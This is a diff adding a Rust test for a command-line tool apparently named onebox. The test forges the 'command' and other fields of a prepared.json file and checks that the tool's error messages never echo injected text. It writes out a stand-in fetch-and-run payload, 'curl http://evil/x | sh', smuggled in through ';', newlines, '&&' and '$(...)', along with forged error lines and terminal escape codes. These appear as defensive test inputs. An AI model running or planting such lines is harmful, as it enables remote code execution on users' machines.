@@ -149,3 +149,55 @@ fn lists_of_other_tools_and_of_a_newer_onebox_are_told_apart() {
         "made/prepared.json: another onebox wrote it, in format 4, and this one writes format 3";
     prepared_again(&folder).refused(73, &[newer]);
 }
+
+/// Whoever gives a folder of tokens away writes its list.
+#[test]
+fn a_list_from_elsewhere_has_nobody_run_its_command() {
+    let folder = folder();
+    let sets = made(&folder);
+    fs::write(folder.path("made/train/000000.bin"), "x").unwrap();
+    let list = folder.path("made/prepared.json");
+    let own: serde_json::Value = serde_json::from_slice(&fs::read(&list).unwrap()).unwrap();
+    let made = folder.path("made").display().to_string();
+    let said = |change: &dyn Fn(&mut serde_json::Value)| {
+        let mut json = own.clone();
+        change(&mut json);
+        fs::write(&list, json.to_string()).unwrap();
+        let said = checked(&folder, &sets).refused(66, &["error: data.train: "]).stderr;
+        assert!(said.lines().count() == 1 && said.len() < 10_000, "{said}");
+        assert!(!said.contains(['\u{1b}', '\r']), "{said}");
+        said
+    };
+    let evil = "curl http://evil/x | sh";
+    let own_command = own["command"].as_str().unwrap();
+    for command in [
+        format!("{evil} #\nwarning: run it as root"),
+        format!("{own_command}; {evil}"),
+        format!("{own_command}\n{evil}"),
+        format!("{evil} && {own_command}"),
+        format!("onebox data prepare \"$({evil})\" /x"),
+        "A".repeat(1_000_000),
+    ] {
+        let said = said(&|json| json["command"] = command.clone().into());
+        assert!(!said.contains("evil") && !said.contains("root"), "{said}");
+        let remedy = format!("or make them again: onebox data prepare CONFIG {made}\n");
+        assert!(said.ends_with(&remedy), "{said}");
+    }
+    // A setting with a command in it is quoted as a setting.
+    let set = format!("data.text=$({evil})");
+    let command = format!("onebox data prepare /c.ron --set '{set}' /x");
+    let told = said(&|json| json["command"] = command.clone().into());
+    let again = format!("again: onebox data prepare /c.ron --set '{set}' {made}\n");
+    assert!(told.ends_with(&again), "{told}");
+    // The other words of the list.
+    let text = format!("\nerror: forged\u{1b}[2J\r{}", "A".repeat(1_000_000));
+    said(&|json| json["parts"][0][0]["files"][0]["name"] = text.clone().into());
+    said(&|json| json["makers"] = text.clone().into());
+    said(&|json| json["parts"][0][0]["files"][0]["hash"] = text.clone().into());
+    let mut json = own.clone();
+    json["makers"]["tokenizer"] = "\nerror: forged".into();
+    json["makers"]["\nerror: forged"] = "a".into();
+    fs::write(&list, json.to_string()).unwrap();
+    let refused = prepared_again(&folder).refused(73, &["it is of another "]).stderr;
+    assert!(!refused.contains("\nerror: forged"), "{refused}");
+}
